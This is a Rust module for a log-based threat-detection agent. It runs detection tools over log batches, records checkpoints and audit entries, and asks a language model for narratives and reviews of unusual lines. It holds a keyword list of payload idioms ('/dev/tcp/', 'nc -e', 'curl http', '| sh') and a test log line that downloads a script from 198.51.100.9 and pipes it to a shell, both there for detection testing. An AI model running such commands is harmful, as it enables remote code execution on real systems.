//! Threat-detection logic: log batches in, findings out.
//!
//! Decision state: the last committed batch sequence number per source (read lazily
//! from the checkpoints). The detector windows live in the `analyze_logs` tool; the
//! state it returns is written in the same commit as the source checkpoint.

use std::collections::HashMap;
use std::sync::Arc;

use futures_util::future::LocalBoxFuture;
use uuid::Uuid;

use super::{AgentEnv, AgentError, AgentLogic, Effects, Tools};
use crate::definitions::AgentDefinition;
use crate::kb::Write;
use crate::kb::audit::{AuditEntry, AuditKind};
use crate::messages::{Envelope, LogBatch, Payload};
use crate::tools::ToolName;
use crate::tools::detection::analyze_logs::{AnalyzeLogs, LogFindings, LogsArgs, addr_prefix, head_key};
use crate::tools::detection::analyze_network_traffic::AnalyzeNetworkTraffic;
use crate::tools::detection::correlate_events::CorrelateEvents;
use crate::tools::detection::detect_ioc::{DetectIoc, IocArgs};
use crate::tools::detection::{Detected, Intel};

pub struct ThreatDetection {
    def: Arc<AgentDefinition>,
    env: Arc<AgentEnv>,
    seqs: HashMap<String, u64>,
}

impl ThreatDetection {
    pub fn new(def: Arc<AgentDefinition>, env: Arc<AgentEnv>) -> Self {
        ThreatDetection { def, env, seqs: HashMap::new() }
    }

    fn declares<T: crate::tools::Tool>(&self) -> bool {
        self.def.tools.contains(&ToolName::of::<T>())
    }

    /// Whether a checkpointed batch was applied before (a re-send after a restart).
    async fn stale(&mut self, batch: &LogBatch) -> Result<bool, AgentError> {
        let Some(seq) = batch.seq else { return Ok(false) };
        let last = match self.seqs.get(&batch.source) {
            Some(s) => *s,
            None => self.env.kb.checkpoint(&batch.source).await?.map(|c| c.seq).unwrap_or(0),
        };
        if seq <= last {
            self.seqs.insert(batch.source.clone(), last);
        }
        Ok(seq <= last)
    }

    async fn batch(&mut self, batch: LogBatch, tools: &dyn Tools) -> Result<Effects, AgentError> {
        if self.stale(&batch).await? {
            return Ok(Effects { stale: true, ..Effects::default() });
        }
        let m = &self.env.metrics;
        m.add_source(&batch.source, &batch.stats, batch.events.len() as u64);
        let Detection { mut findings, delta, keyed, calls } = self.detect(&batch, tools).await?;
        m.state_table("auth_addresses", Some(delta.tracked), delta.evicted);
        if let Some((held, evicted)) = delta.groups {
            m.state_table("sigma_groups", Some(held), evicted);
        }
        let name = &self.def.name;
        // Lines without a checkpoint (stdin, admin injection) cannot be read again: make
        // their effects durable before acknowledging them.
        let mut fx = Effects { findings: findings.len(), flush: batch.seq.is_none(), ..Effects::default() };
        if self.env.durable {
            fx.writes.extend(state_writes(name, delta, keyed)?);
        }
        if let (Some(seq), Some(cp)) = (batch.seq, batch.checkpoint.clone()) {
            let mut cp = cp;
            cp.seq = seq;
            fx.writes.push(Write::Checkpoint { source: batch.source.clone(), checkpoint: cp });
            self.seqs.insert(batch.source.clone(), seq);
        }
        fx.audit.push(AuditEntry::new(
            name,
            AuditKind::ToolCall,
            "analyze_logs",
            serde_json::json!({
                "batch": batch.id,
                "source": batch.source,
                "lines": batch.stats.lines,
                "events": batch.events.len(),
                "findings": findings.iter().map(|f| f.id).collect::<Vec<_>>(),
            }),
        ));
        for (tool, ids) in calls {
            fx.audit.push(AuditEntry::new(
                name,
                AuditKind::ToolCall,
                tool,
                serde_json::json!({ "batch": batch.id, "source": batch.source, "findings": ids }),
            ));
        }
        if self.env.reasoner.is_some() {
            self.model_review(&batch.events, &mut findings, tools, &mut fx).await;
        }
        attach_refs(&mut findings, batch.file.as_deref(), &batch.events);
        for f in findings {
            m.inc(&m.findings);
            tracing::info!(agent = %name, rule = %f.rule, src_ip = ?f.src_ip, finding = %f.id, "finding opened");
            // The envelope id derives from the finding id: a re-read yields the same one.
            let id = Uuid::new_v5(&f.id, b"detection");
            let mut env = Envelope::new(name.clone(), Payload::Detection(f.clone()));
            env.id = id;
            env.correlation_id = id;
            env.causation_id = Some(batch.id);
            fx.writes.push(Write::Finding(f));
            fx.route.push(env);
        }
        Ok(fx)
    }

    /// The detection tools over a batch, in order: `analyze_logs`; the network
    /// detectors when it holds network records; every event against the threat-intel
    /// feeds (enriching the findings); the findings into campaigns. A tool that fails
    /// stops the agent (it is rebuilt from its stored state).
    async fn detect(&self, batch: &LogBatch, tools: &dyn Tools) -> Result<Detection, AgentError> {
        fn fatal(tool: &'static str) -> impl Fn(crate::tools::ToolOutcome<()>) -> AgentError {
            move |o| AgentError::Fatal(format!("{tool} {}", o.summary()))
        }
        let args = LogsArgs::Batch {
            events: batch.events.clone(),
            source: batch.source.clone(),
            file_truncated: batch.stats.file_truncated,
            file: batch.file.clone(),
            matched: batch.matched.clone(),
        };
        let LogFindings { mut findings, delta } =
            tools.call::<AnalyzeLogs>(args).await.output().map_err(fatal("analyze_logs"))?;
        let mut keyed = Vec::new();
        let mut calls = Vec::new();
        if self.declares::<AnalyzeNetworkTraffic>()
            && batch.events.iter().any(crate::tools::detection::network::NetworkAnalyzer::is_network)
        {
            let Detected { findings: f, keyed: k, evicted } = tools
                .call::<AnalyzeNetworkTraffic>(batch.events.clone())
                .await
                .output()
                .map_err(fatal("analyze_network_traffic"))?;
            self.env.metrics.state_table("network", None, evicted);
            calls.push(("analyze_network_traffic", f.iter().map(|x| x.id).collect::<Vec<_>>()));
            findings.extend(f);
            keyed.extend(k);
        }
        if self.declares::<DetectIoc>() {
            let args = IocArgs { events: batch.events.clone(), findings };
            let Intel { enriched, added, keyed: k, evicted } =
                tools.call::<DetectIoc>(args).await.output().map_err(fatal("detect_ioc"))?;
            self.env.metrics.state_table("intel_suppression", None, evicted);
            if !added.is_empty() {
                calls.push(("detect_ioc", added.iter().map(|x| x.id).collect()));
            }
            findings = enriched;
            findings.extend(added);
            keyed.extend(k);
        }
        if self.declares::<CorrelateEvents>() && !findings.is_empty() {
            let Intel { enriched, added, keyed: k, evicted } =
                tools.call::<CorrelateEvents>(findings).await.output().map_err(fatal("correlate_events"))?;
            self.env.metrics.state_table("correlation_groups", None, evicted);
            if !added.is_empty() {
                calls.push(("correlate_events", added.iter().map(|x| x.id).collect()));
            }
            findings = enriched;
            findings.extend(added);
            keyed.extend(k);
        }
        Ok(Detection { findings, delta, keyed, calls })
    }
}

/// What the detection tools made of a batch.
struct Detection {
    findings: Vec<crate::messages::Finding>,
    /// `analyze_logs`' state change, and the other tools' changed entries.
    delta: crate::tools::detection::auth::StateDelta,
    keyed: Vec<(String, Option<serde_json::Value>)>,
    /// The tools besides `analyze_logs` that opened findings, with their ids.
    calls: Vec<(&'static str, Vec<Uuid>)>,
}

/// The state writes of what a batch changed: the detector's head and addresses, the
/// other tools' entries (deleted when `None`), below the agent's name.
fn state_writes(
    name: &str,
    delta: crate::tools::detection::auth::StateDelta,
    keyed: Vec<(String, Option<serde_json::Value>)>,
) -> Result<Vec<Write>, AgentError> {
    let head = head_key(name);
    let mut writes = Vec::with_capacity(1 + delta.correlation.len() + delta.upserts.len());
    for (key, value) in delta.correlation {
        let key = format!("{head}{key}");
        writes.push(match value {
            Some(value) => Write::State { key, value },
            None => Write::StateDelete { key },
        });
    }
    writes.push(Write::State { key: head, value: delta.head });
    let prefix = addr_prefix(name);
    for (ip, st) in &delta.upserts {
        writes.push(Write::State { key: format!("{prefix}{ip}"), value: encode(st)? });
    }
    for ip in &delta.removed {
        writes.push(Write::StateDelete { key: format!("{prefix}{ip}") });
    }
    for (key, value) in keyed {
        let key = format!("{name}/{key}");
        writes.push(match value {
            Some(value) => Write::State { key, value },
            None => Write::StateDelete { key },
        });
    }
    Ok(writes)
}

impl AgentLogic for ThreatDetection {
    fn on_envelope<'a>(
        &'a mut self,
        env: &'a Envelope,
        tools: &'a dyn Tools,
    ) -> LocalBoxFuture<'a, Result<Effects, AgentError>> {
        Box::pin(async move {
            match &env.payload {
                Payload::Instruction(i) => {
                    let snap = crate::tools::Snapshot::default();
                    Ok(super::reasoning::instruction(&self.env, &self.def, env, i, tools, snap).await.0)
                }
                other => Err(AgentError::Rejected(format!("threat-detection does not handle `{}`", other.kind()))),
            }
        })
    }

    fn on_batch<'a>(
        &'a mut self,
        batch: LogBatch,
        tools: &'a dyn Tools,
    ) -> LocalBoxFuture<'a, Result<Effects, AgentError>> {
        Box::pin(self.batch(batch, tools))
    }
}

/// Substrings that make a line worth a model's look when no rule matched it: payload
/// delivery and execution idioms.
const UNUSUAL: [&str; 10] = [
    "/dev/tcp/",
    "base64 -d",
    "wget http",
    "curl http",
    "chmod +x",
    "| sh",
    "|sh",
    "nc -e",
    "python -c",
    "powershell -e",
];

/// Findings a model writes narratives for, per batch, at most.
const NARRATIVES_PER_BATCH: usize = 3;

impl ThreatDetection {
    /// With a model: narratives for the batch's serious findings, and a review of a
    /// batch no rule matched but that a cheap prefilter finds unusual. The model can
    /// add at most a low-severity `model_review` finding — never an incident by itself.
    async fn model_review(
        &self,
        events: &[crate::messages::Event],
        findings: &mut Vec<crate::messages::Finding>,
        tools: &dyn Tools,
        fx: &mut Effects,
    ) {
        use crate::messages::{Finding, Severity};
        let snap = || crate::tools::Snapshot::default();
        for f in findings
            .iter_mut()
            .filter(|f| f.severity >= Severity::High && f.narrative.is_none())
            .take(NARRATIVES_PER_BATCH)
        {
            let facts = serde_json::json!({ "rule": f.rule, "title": f.title, "severity": f.severity, "src_ip": f.src_ip,
                "users": f.users, "host": f.host, "first_seen": f.first_seen, "last_seen": f.last_seen,
                "events": f.event_count, "techniques": f.techniques, "evidence": f.evidence });
            let prompt = format!(
                "Write a narrative of this detection for an analyst in at most three sentences: what happened, \
                 how sure it is, what to check next.\n{}",
                crate::llm::fence_untrusted("FINDING", &facts.to_string(), 4000)
            );
            if let Some(Ok(text)) = super::reasoning::consult(&self.env, &self.def, tools, snap(), prompt, fx).await {
                f.narrative = Some(crate::text::sanitize(&text, 1500));
            }
        }
        if !findings.is_empty() {
            return;
        }
        let unusual: Vec<&crate::messages::Event> = events
            .iter()
            .filter(|e| {
                let l = e.raw.to_ascii_lowercase();
                UNUSUAL.iter().any(|u| l.contains(u))
            })
            .take(20)
            .collect();
        if unusual.is_empty() {
            return;
        }
        let lines = unusual.iter().map(|e| e.raw.as_str()).collect::<Vec<_>>().join("\n");
        let prompt = format!(
            "No detection rule matched these log lines, but they contain payload-like text. Are they an attack? \
             Answer only with JSON: {{\"suspicious\": true|false, \"summary\": \"one sentence\"}}.\n{}",
            crate::llm::fence_untrusted("LOG LINES", &lines, 8000)
        );
        let Some(Ok(answer)) = super::reasoning::consult(&self.env, &self.def, tools, snap(), prompt, fx).await else {
            return;
        };
        #[derive(serde::Deserialize)]
        struct Review {
            suspicious: bool,
            #[serde(default)]
            summary: String,
        }
        let parsed = answer
            .find('{')
            .zip(answer.rfind('}'))
            .filter(|(a, b)| a < b)
            .and_then(|(a, b)| serde_json::from_str::<Review>(&answer[a..=b]).ok());
        let Some(review) = parsed else {
            fx.audit.push(AuditEntry::new(
                &self.def.name,
                AuditKind::ModelCall,
                "review",
                serde_json::json!({ "outcome": "malformed answer ignored: no detection added" }),
            ));
            return;
        };
        if !review.suspicious {
            return;
        }
        let first = unusual[0];
        let src = first.src_ip();
        let entity = src.map(|ip| ip.to_string()).unwrap_or_else(|| format!("host:{}", first.host));
        findings.push(Finding {
            id: Finding::derive_id("model_review", &entity, first.time),
            rule: "model_review".into(),
            title: format!("Model review: {}", crate::text::sanitize(&review.summary, 200)),
            severity: Severity::Low,
            confidence: 0.3,
            src_ip: src.map(|ip| ip.to_string()),
            host: crate::text::sanitize(&first.host, 255),
            first_seen: first.time,
            last_seen: unusual.last().map_or(first.time, |e| e.time),
            event_count: unusual.len() as u64,
            evidence: unusual.iter().take(5).map(|e| crate::text::sanitize(&e.raw, 512)).collect(),
            entity: src.is_none().then_some(entity),
            narrative: Some(crate::text::sanitize(&review.summary, 1500)),
            ..Default::default()
        });
        fx.findings = findings.len();
    }
}

fn encode<T: serde::Serialize>(v: &T) -> Result<serde_json::Value, AgentError> {
    serde_json::to_value(v).map_err(|e| AgentError::Fatal(format!("cannot encode detector state: {e}")))
}

/// Points findings' evidence lines at where they were read (file, offset, hash) when
/// they come from this batch (lines from earlier batches keep no reference): each
/// event's file (several files replayed as one stream), else the batch's.
fn attach_refs(findings: &mut [crate::messages::Finding], file: Option<&str>, events: &[crate::messages::Event]) {
    if findings.is_empty() || (file.is_none() && events.iter().all(|e| e.file.is_none())) {
        return;
    }
    let file: Option<std::sync::Arc<str>> = file.map(Into::into);
    // The evidence lines first (a few), then one pass over the batch: an event whose
    // line is not as long as any of them is not hashed.
    let wanted: std::collections::HashSet<&str> =
        findings.iter().flat_map(|f| f.evidence.iter().map(String::as_str)).collect();
    let mut lengths: Vec<usize> = wanted.iter().map(|l| l.len()).collect();
    lengths.sort_unstable();
    lengths.dedup();
    let mut by_line: std::collections::HashMap<&str, (std::sync::Arc<str>, u64)> = std::collections::HashMap::new();
    for e in events {
        if lengths.binary_search(&e.raw.len()).is_err() || !wanted.contains(e.raw.as_str()) {
            continue;
        }
        if let (Some(file), Some(offset)) = (e.file.clone().or_else(|| file.clone()), e.offset) {
            // The last of identical lines, as before.
            by_line.insert(e.raw.as_str(), (file, offset));
        }
    }
    for f in findings {
        for line in &f.evidence {
            if let Some((file, offset)) = by_line.get(line.as_str())
                && !f.evidence_refs.iter().any(|r| r.offset == *offset && r.file == *file)
            {
                f.evidence_refs.push(crate::messages::EvidenceRef::new(file.clone(), *offset, line));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    //! The model's part in detection, with a mocked model (mockall): narratives, reviews
    //! of unusual batches, malformed answers.

    use super::*;
    use crate::agents::MockTools;
    use crate::llm::ReasonAnswer;
    use crate::messages::{Finding, Severity};

    fn agent(answer: &'static str) -> ThreatDetection {
        let defs = crate::agents::test_support::definitions();
        let m = crate::agents::test_support::model(move |req| {
            assert!(req.prompt.contains("<<<UNTRUSTED"), "log text reaches the model fenced");
            Box::pin(async move { Ok(ReasonAnswer { text: answer.into(), tool_uses: vec![], tokens: 3 }) })
        });
        let env = crate::agents::test_support::env(&defs, Some(m));
        ThreatDetection::new(Arc::new(defs.agents["threat-detection"].clone()), env)
    }

    fn events(lines: &[&str]) -> Vec<crate::messages::Event> {
        let years = crate::ingest::parse::YearInference::new(chrono::Utc::now());
        let mut st = Default::default();
        lines
            .iter()
            .map(|l| crate::ingest::parse::auth::parse_line(l.to_string(), &years, &mut st).unwrap().0)
            .collect()
    }

    fn tools() -> MockTools {
        let mut t = MockTools::new();
        t.expect_executor().returning(|| None);
        t
    }

    const PAYLOAD: &str = "Nov 26 10:00:00 web1 cron[42]: (www-data) CMD (wget http://198.51.100.9/x.sh -O- | sh)";

    #[actix_rt::test]
    async fn an_unusual_batch_no_rule_matched_gets_a_low_severity_review() {
        let td = agent(r#"Here: {"suspicious": true, "summary": "Downloads a script and pipes it to a shell"}"#);
        let (mut findings, mut fx) = (Vec::new(), Effects::default());
        td.model_review(&events(&[PAYLOAD]), &mut findings, &tools(), &mut fx).await;
        assert_eq!(findings.len(), 1);
        let f = &findings[0];
        assert_eq!((f.rule.as_str(), f.severity, f.host.as_str()), ("model_review", Severity::Low, "web1"));
        assert_eq!(f.narrative.as_deref(), Some("Downloads a script and pipes it to a shell"));
        assert!(fx.audit.iter().any(|a| a.kind == AuditKind::ModelCall));
        // Ordinary lines are not sent at all.
        let (mut findings, mut fx) = (Vec::new(), Effects::default());
        td.model_review(
            &events(&["Nov 26 10:00:00 web1 cron[42]: (root) CMD (run-parts /etc/cron.hourly)"]),
            &mut findings,
            &tools(),
            &mut fx,
        )
        .await;
        assert!(findings.is_empty() && fx.audit.is_empty());
    }

    #[actix_rt::test]
    async fn a_malformed_review_adds_nothing_and_says_so() {
        let td = agent("I think it might be bad?");
        let (mut findings, mut fx) = (Vec::new(), Effects::default());
        td.model_review(&events(&[PAYLOAD]), &mut findings, &tools(), &mut fx).await;
        assert!(findings.is_empty());
        assert!(fx.audit.iter().any(|a| a.detail["outcome"] == "malformed answer ignored: no detection added"));
    }

    #[actix_rt::test]
    async fn serious_findings_get_a_narrative() {
        let td = agent("Someone guessed passwords for admin from one address; check for a success.");
        let mut findings =
            vec![Finding { rule: "ssh_brute_force".into(), severity: Severity::High, ..Default::default() }];
        let mut fx = Effects::default();
        td.model_review(&[], &mut findings, &tools(), &mut fx).await;
        assert_eq!(
            findings[0].narrative.as_deref(),
            Some("Someone guessed passwords for admin from one address; check for a success.")
        );
    }
}
